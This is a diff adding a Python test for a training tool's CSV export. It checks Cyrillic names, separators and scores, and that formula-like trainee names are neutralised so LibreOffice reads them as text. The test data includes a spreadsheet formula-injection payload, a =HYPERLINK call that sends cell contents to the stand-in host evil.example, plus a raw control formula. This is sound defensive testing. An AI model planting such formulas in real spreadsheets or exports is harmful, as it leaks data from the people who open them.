@@ -1,0 +1,213 @@
+#!/usr/bin/env python3
+"""The CSV export as a leader's spreadsheet reads it.
+
+Builds a results store from real playthroughs (the golden scripts of every bundled scenario)
+by trainees with awkward names: Cyrillic, a comma, quotes, a line break, and names a
+spreadsheet would run as formulas (=HYPERLINK(...), +, -, @). Then:
+  - Python's csv module reads `report --format csv` back: one row per session, the header,
+    every name exactly (formula names behind one apostrophe), numbers as plain numbers equal
+    to the JSON export's scores;
+  - `--excel-ru` gives the byte-order mark, ';' separators and decimal commas;
+  - LibreOffice (headless, formulas evaluated on import) converts both files to ODS: the
+    Cyrillic names are intact, =HYPERLINK(...) is a text cell and not a formula, and the
+    score columns are numbers. A control file with a raw formula shows LibreOffice would
+    have run it.
+"""
+import argparse
+import csv
+import glob
+import io
+import json
+import os
+import re
+import shutil
+import subprocess
+import sys
+import tempfile
+import zipfile
+
+FAILS = []
+
+NAMES = [
+    "Анна Петрова",
+    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
+    "+7 916 000",
+    "-1+2",
+    "@SUM(1,2)",
+    "Smith, John",
+    'Joe "the fixer"',
+    "Line one\nline two",
+]
+
+
+def check(cond, what):
+    if not cond:
+        FAILS.append(what)
+        print("FAIL:", what)
+
+
+def run(cmd, env, **kw):
+    return subprocess.run(cmd, env=env, capture_output=True, **kw)
+
+
+def build_store(frontline, root, db, env):
+    scripts = sorted(glob.glob(os.path.join(root, "tests", "golden", "*", "*.script")))
+    sessions = 0
+    for i, script in enumerate(scripts):
+        lang = os.path.basename(os.path.dirname(script))
+        name = os.path.basename(script).split(".")[0]
+        xml = os.path.join(root, "scenarios", lang, name + ".xml")
+        trainee = NAMES[i % len(NAMES)]
+        group = "Группа 1" if i % 2 else "Group; two"
+        p = run([frontline, "play", "--script", script, "--db", db, "--trainee", trainee,
+                 "--group", group, xml], env)
+        check(p.returncode == 0, "play %s: exit %d %s" % (script, p.returncode, p.stderr[-300:]))
+        sessions += 1
+    return sessions
+
+
+def ods_rows(path):
+    """The cells of the first sheet of an ODS file: [(value-type, formula, text), ...] per row."""
+    with zipfile.ZipFile(path) as z:
+        xml = z.read("content.xml").decode("utf-8")
+    rows = []
+    for row in re.findall(r"<table:table-row[^>]*>(.*?)</table:table-row>", xml, re.S):
+        cells = []
+        for attrs, body in re.findall(r"<table:table-cell([^>]*?)(?:/>|>(.*?)</table:table-cell>)",
+                                      row, re.S):
+            rep = re.search(r'table:number-columns-repeated="(\d+)"', attrs)
+            vt = re.search(r'office:value-type="(\w+)"', attrs)
+            formula = re.search(r'table:formula="([^"]*)"', attrs)
+            text = "\n".join(re.sub(r"<[^>]+>", "", p) for p in re.findall(r"<text:p>(.*?)</text:p>", body or "", re.S))
+            text = (text.replace("&quot;", '"').replace("&apos;", "'").replace("&lt;", "<")
+                    .replace("&gt;", ">").replace("&amp;", "&"))
+            n = int(rep.group(1)) if rep else 1
+            if n > 50:  # the empty tail of the row
+                break
+            cells += [(vt.group(1) if vt else None, formula.group(1) if formula else None, text)] * n
+        rows.append(cells)
+    return rows
+
+
+def libreoffice(csv_path, sep, outdir, env):
+    # CSV import options: separator, quote, UTF-8 (76), from line 1, ..., token 13: evaluate
+    # formulas (on: the test is that nothing in the file is one).
+    opts = "CSV:%d,34,76,1,,1033,false,false,false,false,false,-1,true" % ord(sep)
+    profile = tempfile.mkdtemp(prefix="lo-profile-")
+    try:
+        p = run(["soffice", "-env:UserInstallation=file://" + profile, "--headless",
+                 "--convert-to", "ods", "--outdir", outdir, "--infilter=" + opts, csv_path],
+                env, timeout=180)
+    finally:
+        shutil.rmtree(profile, ignore_errors=True)
+    ods = os.path.join(outdir, os.path.splitext(os.path.basename(csv_path))[0] + ".ods")
+    check(p.returncode == 0 and os.path.exists(ods),
+          "LibreOffice converted %s (%s)" % (csv_path, p.stderr.decode()[-300:]))
+    return ods_rows(ods) if os.path.exists(ods) else []
+
+
+def main():
+    ap = argparse.ArgumentParser()
+    ap.add_argument("--frontline", required=True)
+    ap.add_argument("--root", required=True)
+    a = ap.parse_args()
+    tmp = tempfile.mkdtemp(prefix="fl-csv-")
+    env = dict(os.environ, XDG_DATA_HOME=tmp + "/data", XDG_STATE_HOME=tmp + "/state",
+               TZ="Europe/Moscow", HOME=tmp)
+    db = os.path.join(tmp, "room.sqlite")
+    n = build_store(a.frontline, a.root, db, env)
+    print("sessions played:", n)
+
+    p = run([a.frontline, "report", "--db", db, "--format", "json"], env)
+    check(p.returncode == 0, "json export: %s" % p.stderr)
+    sessions = {s["session"]: s for s in json.loads(p.stdout)}
+    check(len(sessions) == n, "json export has %d sessions, played %d" % (len(sessions), n))
+
+    plain = os.path.join(tmp, "results.csv")
+    p = run([a.frontline, "report", "--db", db, "-o", plain], env)
+    check(p.returncode == 0, "csv export: %s" % p.stderr)
+    raw = open(plain, "rb").read()
+    check(not raw.startswith(b"\xef\xbb\xbf"), "no byte-order mark by default")
+    check(b"\r\n" in raw, "RFC 4180 line ends (CRLF)")
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8"), newline="")))
+    header, body = rows[0], rows[1:]
+    check(len(body) == n, "one row per session: %d rows, %d sessions" % (len(body), n))
+    dims = ["empathy", "apology", "ownership", "tone", "upsell", "resolution", "responsiveness"]
+    for col in ["session", "trainee", "group", "scenario", "overall", "band", "findings"] + dims:
+        check(col in header, "column %s in the header" % col)
+    col = {h: i for i, h in enumerate(header)}
+    names_seen = set()
+    for row in body:
+        s = sessions.get(row[col["session"]])
+        check(s is not None, "row for a session the JSON has: %s" % row[0])
+        if not s:
+            continue
+        t = row[col["trainee"]]
+        want = s["trainee"]
+        if want[0] in "=+-@":
+            check(t == "'" + want, "formula-like name neutralised: %r -> %r" % (want, t))
+        else:
+            check(t == want, "name intact: %r -> %r" % (want, t))
+        names_seen.add(want)
+        check(row[col["overall"]] == str(s["overall"]), "overall %s == %s" % (row[col["overall"]], s["overall"]))
+        for d in dims:
+            v = s["dimensions"][d]
+            check(row[col[d]] == ("" if v is None else str(v)), "%s: csv %r json %r" % (d, row[col[d]], v))
+        check(int(row[col["findings"]]) == s["findings_count"] == len(s["findings"]),
+              "findings counted: %s vs %d" % (row[col["findings"]], len(s["findings"])))
+    check(names_seen == set(NAMES), "every trainee name came back")
+
+    ru = os.path.join(tmp, "results-ru.csv")
+    p = run([a.frontline, "report", "--db", db, "--excel-ru", "--lang", "ru", "-o", ru], env)
+    check(p.returncode == 0, "csv --excel-ru: %s" % p.stderr)
+    raw_ru = open(ru, "rb").read()
+    check(raw_ru.startswith(b"\xef\xbb\xbf"), "--excel-ru starts with the UTF-8 byte-order mark")
+    rows_ru = list(csv.reader(io.StringIO(raw_ru[3:].decode("utf-8"), newline=""), delimiter=";"))
+    check(len(rows_ru) == n + 1 and len(rows_ru[0]) == len(header),
+          "--excel-ru: same rows and columns with ';'")
+    check("стажёр" in rows_ru[0], "Russian headers with --lang ru: %s" % rows_ru[0][:3])
+
+    # An existing file is not overwritten without --force.
+    before = open(plain, "rb").read()
+    p = run([a.frontline, "report", "--db", db, "--format", "csv", "-o", plain], env)
+    check(p.returncode == 1 and b"--force" in p.stderr and open(plain, "rb").read() == before,
+          "an existing output is kept without --force")
+
+    if not shutil.which("soffice"):
+        check(False, "LibreOffice (soffice) is installed: run tools/setup.sh")
+    else:
+        out = os.path.join(os.getcwd(), "report", "artefacts")
+        os.makedirs(out, exist_ok=True)
+        for path, sep, hdr in ((plain, ",", header), (ru, ";", rows_ru[0])):
+            sheet = libreoffice(path, sep, out, env)
+            check(len(sheet) >= n + 1, "LibreOffice read %d rows from %s" % (len(sheet), path))
+            if len(sheet) < n + 1:
+                continue
+            hcol = {c[2]: i for i, c in enumerate(sheet[0])}
+            tcol = hcol.get("trainee", hcol.get("стажёр"))
+            ocol = hcol.get("overall", hcol.get("итог"))
+            for cells in sheet[1:n + 1]:
+                vt, formula, text = cells[tcol]
+                check(formula is None, "%s: no formula in a trainee cell (%s)" % (path, formula))
+                check(vt == "string", "%s: trainee cell is text (%s)" % (path, vt))
+                check(cells[ocol][0] == "float", "%s: overall is a number (%s)" % (path, cells[ocol]))
+            texts = {c[tcol][2] for c in sheet[1:n + 1]}
+            check("Анна Петрова" in texts, "%s: Cyrillic intact in the spreadsheet" % path)
+            check("'" + NAMES[1] in texts, "%s: =HYPERLINK shows as text" % path)
+        # Control: the same import does run a raw formula, so the checks above can fail.
+        control = os.path.join(tmp, "control.csv")
+        with open(control, "w", newline="") as f:
+            f.write('trainee,overall\r\n=HYPERLINK("http://x";"y"),1\r\n')
+        sheet = libreoffice(control, ",", tmp, env)
+        check(len(sheet) > 1 and sheet[1][0][1] is not None,
+              "control: LibreOffice evaluates an unneutralised formula")
+    shutil.rmtree(tmp, ignore_errors=True)
+    if FAILS:
+        print("%d failure(s)" % len(FAILS))
+        return 1
+    print("ok: %d sessions; csv module and LibreOffice agree with the JSON export" % n)
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
